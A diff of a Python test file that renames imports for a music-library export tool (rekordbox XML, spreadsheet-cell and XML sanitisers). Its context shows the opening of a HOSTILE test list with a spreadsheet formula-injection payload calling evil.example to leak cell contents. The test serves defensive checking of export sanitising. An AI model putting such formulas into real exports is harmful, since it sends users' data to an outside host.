@@ -6,9 +6,9 @@ from datetime import date
 
 import pytest
 
-from assets.catalog.rekordbox import DjTrack, export_rekordbox_xml
-from assets.common.human_exports import single_line, spreadsheet_cell, xml_text
-from assets.curation.sync import ExportTrack, SyncJob, write_export
+from backbeat.catalog.rekordbox import DjTrack, export_rekordbox_xml
+from backbeat.common.human_exports import single_line, spreadsheet_cell, xml_text
+from backbeat.curation.sync import ExportTrack, SyncJob, write_export
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
